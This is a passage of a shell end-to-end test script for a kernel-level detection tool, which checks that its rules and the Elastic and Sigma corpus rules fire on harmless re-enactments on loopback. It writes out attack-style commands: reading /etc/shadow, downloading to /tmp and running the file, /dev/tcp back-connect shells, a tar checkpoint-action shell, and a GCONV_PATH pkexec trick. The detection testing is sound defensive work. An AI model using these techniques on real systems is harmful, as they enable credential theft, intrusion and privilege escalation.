	"$KLOAD" compile --explain --exclude-tag e2e.noisy --exceptions "$W/life-exc.yml" \
		"$W/life.yml" >"$W/explain.txt" 2>&1
	check "lifecycle: --explain names what is not compiled and the exceptions" \
		"grep -q 'e2e_life_disabled .*not compiled: enabled: false' $W/explain.txt && grep -q 'e2e_life_noisy .*not compiled: exclude_tags e2e.noisy' $W/explain.txt && [ \$(grep -c 'exception 1 (every step' $W/explain.txt) -eq 2 ]" "$W/explain.txt"
else
	bad "attach --config with a rule selection and exceptions" "$W/attach.log"
fi
"$KLOAD" detach --pin-dir "$PIN" >/dev/null 2>&1

# The end of a live section: the HTTP server and kload (SIGTERM) stopped,
# what kload attached detached.
stop_live() {
	[ -n "$HPID" ] && kill "$HPID" 2>/dev/null
	HPID=
	kill -TERM "$KPID"
	wait "$KPID"
	KPID=
	"$KLOAD" detach --pin-dir "$PIN" >/dev/null 2>&1
}

# ---- the shipped rules, live: file events in whatever mode this kernel has
# (signal mode from syscall tracepoints where there is neither BPF LSM nor
# kprobes). A credential file read, and a download to /tmp then run.
if attach rules/; then
	ok "attach with the shipped rules"
	"$KLOAD" status --json --pin-dir "$PIN" >"$W/status.json" 2>&1
	check "status --json names the file event source" \
		"jq -e '.events.file[0].source | test(\"^(lsm|kprobe|tracepoint)\$\")' $W/status.json >/dev/null" "$W/status.json"
	"$KLOAD" status --pin-dir "$PIN" >"$W/out" 2>&1
	check "status names each event kind's source and what block means" \
		"grep -Eq '^  file: +(lsm|kprobe|tracepoint)' $W/out && grep -q 'block: ' $W/out" "$W/out"
	cat /etc/shadow >/dev/null
	mkdir -p "$W/www" && cp /bin/true "$W/www/payload"
	python3 -m http.server 47013 --bind 127.0.0.1 --directory "$W/www" >/dev/null 2>&1 &
	HPID=$!
	dl=/tmp/ks-e2e-dl.$$
	for _ in $(seq 1 50); do
		curl -sf -o "$dl" http://127.0.0.1:47013/payload && break
		sleep 0.1
	done
	chmod +x "$dl" && "$dl"
	python3 -c 'import sys, urllib.request as u; u.urlretrieve(sys.argv[1], sys.argv[2])' \
		http://127.0.0.1:47013/payload "$dl.py"
	chmod +x "$dl.py" && "$dl.py"
	wait_for '"id":"shadow_file_read"' "$W/alerts.jsonl"
	# the exec_from_tmp alert of the same exec may come first
	wait_grep -E "$dl\".*\"id\":\"tmp_download_then_exec\"" "$W/alerts.jsonl"
	wait_grep -E "$dl\.py\".*\"id\":\"tmp_download_then_exec\"" "$W/alerts.jsonl"
	check "shadow_file_read alerts on cat /etc/shadow" \
		"grep '\"id\":\"shadow_file_read\"' $W/alerts.jsonl | grep -q '\"path\":\"/etc/shadow\"'" "$W/alerts.jsonl"
	check "tmp_download_then_exec: curl's file under /tmp, then run" \
		"grep '\"id\":\"tmp_download_then_exec\"' $W/alerts.jsonl | grep -q '\"name\":\"curl\".*$dl\"'" "$W/alerts.jsonl"
	check "tmp_download_then_exec: python3's file under /tmp, then run" \
		"grep '\"id\":\"tmp_download_then_exec\"' $W/alerts.jsonl | grep -q '\"name\":\"python3[.0-9]*\".*$dl.py\"'" "$W/alerts.jsonl"
	# a "#!" script in /dev/shm: its interpreter is process.executable,
	# the script is in its args, and script_from_dev_shm blocks it
	shm=/dev/shm/ks-e2e-script.$$
	if [ -d /dev/shm ] && ! awk '$2 == "/dev/shm" && $4 ~ /(^|,)noexec(,|$)/ { f = 1 } END { exit !f }' /proc/mounts &&
	   printf '#!/bin/sh\nexit 0\n' >"$shm" && chmod +x "$shm"; then
		"$shm" && rc=0 || rc=$?
		wait_grep -E "$shm\".*\"id\":\"script_from_dev_shm\"" "$W/alerts.jsonl"
		check "script_from_dev_shm: a #! script in /dev/shm is blocked (exit $rc), its interpreter judged" \
			"[ $rc -ne 0 ] && grep '\"id\":\"script_from_dev_shm\"' $W/alerts.jsonl | grep -q '\"args\":\[\"/bin/sh\",\"$shm\"\].*\"executable\":\"/usr/bin/dash\"'" "$W/alerts.jsonl"
		rm -f "$shm"
	else
		skp "script_from_dev_shm: /dev/shm missing, noexec or not writable here"
	fi
	"$KLOAD" stats --prometheus --pin-dir "$PIN" >"$W/prom.txt"
	check "file events counted" "grep -Eq '^kestrel_events_total\{source=\"file\"\} [1-9]' $W/prom.txt" "$W/prom.txt"
	check "prometheus: accounting identity per source, file included" "identity_ok $W/prom.txt" "$W/prom.txt"
	stop_live
else
	bad "attach with the shipped rules" "$W/attach.log"
fi

# ---- corpus rules, live (issue 13): rules of Elastic's corpus that
# tests/corpus-proofs/ proves on fixtures, attached as they are from
# ../shared/corpus, and triggered by doing what each one detects,
# harmlessly: under $W (in /tmp), on loopback, with copies of /bin/true,
# bash and perl named as the rule expects, processes that exit at once.
# Every alert must carry the corpus rule's id and uuid (its rule_id) and
# the events this test made. All of it works from tracepoints alone.
corpus_dir() { # name
	for d in "../shared/corpus/$1" "/work/shared/corpus/$1"; do
		[ -d "$d" ] && { echo "$d"; return; }
	done
}
# The rule files of tests/corpus-proofs/: NAME.toml of the Elastic corpus,
# NAME.yml in a directory of the Sigma corpus.
proven_rules() {
	local f
	for f in tests/corpus-proofs/elastic-linux-eql/*.pos.jsonl; do
		echo "$CORPUS/$(basename "$f" .pos.jsonl).toml"
	done
	[ -n "$SIGMA" ] || return 0
	for f in tests/corpus-proofs/sigma-linux/*.pos.jsonl; do
		find "$SIGMA" -name "$(basename "$f" .pos.jsonl).yml"
	done
}
# The alert of rule id $1 whose events contain the fixed string $2, and,
# when $4 is given, rule.uuid $4 (a TOML rule's rule_id).
live_alert() { # id marker what [uuid]
	wait_grep -F "\"id\":\"$1\"" "$W/alerts.jsonl"
	if grep -F "\"id\":\"$1\"" "$W/alerts.jsonl" | grep -F -- "$2" |
	   grep -qF "${4:+\"uuid\":\"$4\"}"; then
		ok "corpus $1: $3"
	else
		bad "corpus $1: $3" "$W/alerts.jsonl"
	fi
}
# The same for an Elastic rule, by its file name, with its rule_id.
live_elastic() { # rule marker what
	local uuid
	uuid=$(sed -n 's/^rule_id = "\(.*\)"$/\1/p' "$CORPUS/$1.toml")
	if [ -n "$uuid" ]; then
		live_alert "$1" "$2" "$3" "$uuid"
	else
		bad "corpus $1: no rule_id in $CORPUS/$1.toml"
	fi
}
# What the rules below detect, done for real. $P is under /tmp.
corpus_attack() {
	P=$W/proof
	mkdir -p "$P/www" && cp /bin/true "$P/www/payload"
	# telnet, then its connect to a private address (loopback)
	cp /bin/bash "$P/telnet"
	bash -c '"$0" -c "exec 3<>/dev/tcp/127.0.0.1/47021" 2>/dev/null; true' "$P/telnet"
	# a binary in /tmp started by a shell connects out (not to 127.0.0.1),
	# then becomes a shell: three steps in one process
	cp /bin/bash "$P/agent"
	bash -c '"$0" -c "{ exec 3<>/dev/tcp/127.0.0.2/47022; } 2>/dev/null; exec bash -c true"; true' "$P/agent"
	# a program run from /tmp deletes its own file
	cp /usr/bin/perl "$P/selfdel"
	"$P/selfdel" -e 'unlink $^X or die "unlink: $!"'
	# a hidden shared object; a file named for the pkexec GCONV_PATH trick
	: >"$P/.libx.so"
	: >"$P/GCONV_PATH=x"
	# a python web server; curl downloads from it into /tmp, a shell runs
	# the file, unlink (not rm) deletes it
	python3 -m http.server 47014 --bind 127.0.0.1 --directory "$P/www" >/dev/null 2>&1 &
	HPID=$!
	for _ in $(seq 1 50); do
		curl -sf -o "$P/payload" http://127.0.0.1:47014/payload && break
		sleep 0.1
	done
	chmod +x "$P/payload"
	bash -c '"$0"; true' "$P/payload"
	unlink "$P/payload"
	# tar --checkpoint-action runs a shell
	(cd "$P" && tar cf /dev/null --checkpoint=1 --checkpoint-action=exec=true www)
	# an sshd ends, then strace starts (both copies of /bin/true)
	cp /bin/true "$P/sshd" && cp /bin/true "$P/strace"
	"$P/sshd" && "$P/strace"
	# base64 decodes a file; bash connects out through /dev/tcp
	echo aGk= >"$P/b64" && base64 -d "$P/b64" >/dev/null
	bash -c 'exec 3<>/dev/tcp/127.0.0.2/47023' 2>/dev/null
}
CORPUS=$(corpus_dir elastic-linux-eql)
SIGMA=$(corpus_dir sigma-linux)
if [ -z "$CORPUS" ]; then
	skp "corpus rules live: ../shared/corpus/elastic-linux-eql not found"
elif ! : >"$W/alerts.jsonl" || ! attach --detach-on-exit $(proven_rules); then
	bad "attach the proven corpus rules" "$W/attach.log"
else
	ok "attach the proven corpus rules ($(sed -n 's/.*attached: mode \([a-z]*\), \([0-9]*\) rules.*/\2 rules, mode \1/p' "$W/attach.log"))"
	corpus_attack
	live_elastic lateral_movement_telnet_network_activity_internal "$P/telnet" \
		"telnet's connect to 127.0.0.1 (sequence by entity)"
	live_elastic execution_shell_via_suspicious_binary "\"ip\":\"127.0.0.2\"" \
		"a /tmp binary connects, then becomes a shell (3-step sequence)"
	live_elastic defense_evasion_execution_followed_by_self_deletion "\"path\":\"$P/selfdel\"" \
		"a program deletes its own file (sequence joined by path)"
	live_elastic defense_evasion_hidden_shared_object "\"path\":\"$P/.libx.so\"" \
		"a hidden .so created"
	live_elastic privilege_escalation_pkexec_envar_hijack "\"path\":\"$P/GCONV_PATH=x\"" \
		"a GCONV_PATH file created"
	live_elastic execution_python_webserver_spawned '"47014"' "python3 -m http.server"
	live_elastic execution_file_execution_followed_by_deletion "\"path\":\"$P/payload\"" \
		"curl's download run, then unlinked (3-step sequence, file and process)"
	live_elastic privilege_escalation_potential_wildcard_shell_spawn "--checkpoint-action=exec=true" \
		"tar --checkpoint-action runs a shell"
	live_elastic credential_access_ssh_password_grabbing_via_strace "$P/strace" \
		"an sshd ends, then strace starts"
	if [ -n "$SIGMA" ]; then
		live_alert sigma.e2072cab-8c9a-459b-b63c-40ae79e27031 "$P/b64" \
			"Sigma proc_creation_lnx_base64_decode: base64 -d"
		live_alert sigma.83dcd9f6-9ca8-4af7-a16e-a1c7a6b51871 '"ip":"127.0.0.2","port":47023' \
			"Sigma net_connection_lnx_back_connect_shell_dev: bash's /dev/tcp connect"
	else
		skp "Sigma rules live: ../shared/corpus/sigma-linux not found"
	fi
	stop_live
fi

# ---- already_running: a process started before attach is reported by
# the /proc walk (decided in userspace), and its entity id is the one the
# kernel's events carry: a sequence from it to the process's end joins.
cat >"$W/running.yml" <<'EOF'
- rule: e2e_running
  name: a process running when kload attached
  severity: low
  query: |
    process where event.type == "info" and event.action == "already_running" and
      process.name == "ks_e2e_running" and process.args == "3600"
- rule: e2e_running_end
  name: a process running when kload attached, then its end
  severity: low
  query: |
    sequence by process.entity_id
      [process where event.action == "already_running" and process.name == "ks_e2e_running"]
      [process where event.action == "end" and process.name == "ks_e2e_running"]
EOF
cp /bin/sleep /tmp/ks_e2e_running
/tmp/ks_e2e_running 3600 &
RPID=$!
: >"$W/alerts.jsonl"
if attach --detach-on-exit "$W/running.yml"; then
	wait_for '"id":"e2e_running"' "$W/alerts.jsonl"
	check "already_running: a process started before attach alerts, with its pid" \
		"grep '\"id\":\"e2e_running\"' $W/alerts.jsonl | grep -q '\"action\":\"already_running\".*\"pid\":$RPID'" "$W/alerts.jsonl"
	check "already_running: attach says how many and how long" \
		"grep -Eq 'already_running: [0-9]+ event\(s\) of [0-9]+ listed task group\(s\) in [0-9.]+ ms' $W/attach.log" "$W/attach.log"
	kill "$RPID"; wait "$RPID" 2>/dev/null; RPID=
	wait_for '"id":"e2e_running_end"' "$W/alerts.jsonl"
	check "already_running: its entity id joins the kernel's end event" \
		"grep -q '\"id\":\"e2e_running_end\"' $W/alerts.jsonl" "$W/alerts.jsonl"
	stop_live
else
	bad "attach with an already_running rule" "$W/attach.log"
fi
[ -n "$RPID" ] && kill "$RPID" 2>/dev/null

# kload --detach-on-exit stopped under an open/close storm on every CPU:
# the hooks go before its last read of the ring buffer, so every event
# they forwarded is read (bench_sustain holds the maps across kload's
# exit and checks that, and every source's identity, on the final counts)
if make --no-print-directory build/bench/bench_sustain >"$W/sustain-build.log" 2>&1; then
	check "stopped under load: every forwarded event read, every identity holds" \
		"build/bench/bench_sustain --kload $KLOAD --sets stop --secs 2 >$W/sustain.out 2>$W/sustain.log" \
		"$W/sustain.log"
else
	bad "build bench_sustain" "$W/sustain-build.log"
fi

echo "$pass passed, $fail failed, $skip skipped"
[ "$fail" -eq 0 ]
